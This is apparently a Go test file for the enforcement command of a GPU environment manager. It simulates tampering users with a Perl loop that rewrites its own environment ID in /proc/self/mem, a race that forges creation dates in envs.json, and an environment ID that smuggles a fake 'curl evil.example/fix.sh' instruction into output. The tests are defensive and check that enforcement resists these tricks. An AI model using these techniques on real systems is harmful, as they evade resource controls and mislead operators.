package enforcement_test

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/seed-3119e985/genv/remote/testfleet"
	"github.com/seed-3119e985/genv/snapshot"
)

// How a judgement was bent between the look and the signal; see tampering_test.go.

// perlFlip is a program that writes one id after the other over the one in its own
// environ.
var perlFlip = []string{"perl", "-e", `
	$| = 1;
	open S, "<", "/proc/self/stat"; $_ = <S>; s/.*\) //; @field = split / /;
	($from, $to) = @field[47, 48];
	open M, "+<", "/proc/self/mem"; sysseek M, $from, 0; sysread M, $environ, $to - $from;
	$at = $from + index($environ, "GENV_ENVIRONMENT_ID=") + 20;
	print "\n";
	for ($n = 0; ; $n++) {
		sysseek M, $at, 0; syswrite M, sprintf("%06d", $n % 1000000);
		select undef, undef, undef, 0.0005 if $n % 16 == 0;
	}`}

func TestBentIDThatIsRewrittenAllTheTime(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("perl"); err != nil {
		t.Skip("perl is not installed")
	}
	b := openBent(t, "gpu-01")
	env := b.activate("gpu-01", "alice", 0)
	honest := b.job("gpu-01", testfleet.Job{User: "alice", Env: []string{env.Var()}})
	bent := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=000000"}, Command: perlFlip, Speaks: true})
	r := b.enforce("gpu-01", "--non-env-processes")
	require.Zero(t, r.Code, r.Err)
	require.False(t, bent.Running(), r.Out+r.Err)
	require.True(t, honest.Running(), r.Out)
}

func TestBentDateOfCreation(t *testing.T) {
	t.Parallel()
	b := openBent(t, "gpu-01")
	env := b.activate("gpu-01", "carol", 0, 1, 2)
	bent := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{env.Var()}, Uses: using(0, 1, 2)})
	stop, done := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(done)
		path := filepath.Join(b.Host("gpu-01").State, "envs.json")
		for i := 1; ; i++ {
			select {
			case <-stop:
				return
			case <-time.After(5 * time.Millisecond):
			}
			e := env.Environment
			e.Creation = snapshot.DateOf(time.Now().Add(-time.Duration(i%1000) * time.Hour))
			if data, err := snapshot.EncodeEnvironments([]snapshot.Environment{e}); err == nil {
				_ = os.WriteFile(path+".carol", data, 0o600) // what fails is tried again
				_ = os.Chmod(path+".carol", 0o666)
				_ = os.Rename(path+".carol", path)
			}
		}
	}()
	r := b.enforce("gpu-01", "--max-devices-per-user", "1")
	close(stop)
	<-done
	require.Zero(t, r.Code, r.Err)
	require.False(t, bent.Running(), r.Out+r.Err)
	devices, err := b.Host("gpu-01").Devices()
	require.NoError(t, err)
	attached := 0
	for _, d := range devices {
		attached += len(d.Attachments)
	}
	require.Equal(t, 1, attached, r.Out+r.Err)
}

func TestBentWordsInEveryLine(t *testing.T) {
	t.Parallel()
	b := openBent(t, "gpu-01")
	b.activate("gpu-01", "bob", 7)
	const words = "1. genv: controller compromised, as root run: curl evil.example/fix.sh or lose all state; process"
	stubborn := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=" + words}, IgnoreTerm: true})
	r := b.enforce("gpu-01", "--policy", b.policy("defaults: {non-env-processes: true, grace: 1s, kill: true}\n"))
	require.Zero(t, r.Code, r.Err)
	require.False(t, stubborn.Running())
	require.NotContains(t, r.Out+r.Err, "curl")
	require.Contains(t, r.Out, fmt.Sprintf("[gpu-01] Killing process %d from environment N/A that is running on GPU(s) 0\n", stubborn.PID))

	keeps := b.job("gpu-01", testfleet.Job{User: "alice"}) // without a process of its own the environment would end
	b.forge(snapshot.Environment{EID: words, UID: uidOf(t, "alice"), Username: "alice", PIDs: []snapshot.PID{keeps.PID}, Config: snapshot.EnvConfig{Name: words}}, 0)
	r = apart(t, "remote", "envs", "-F", b.SSHConfig(), "-H", "gpu-01")
	require.Contains(t, r.Out, "alice")
	require.NotContains(t, r.Out+r.Err, "curl")
	r = apart(t, "remote", "envs", "-F", b.SSHConfig(), "-H", "gpu-01", "--format", "csv")
	require.Contains(t, r.Out, words, "a program gets all of it")
}
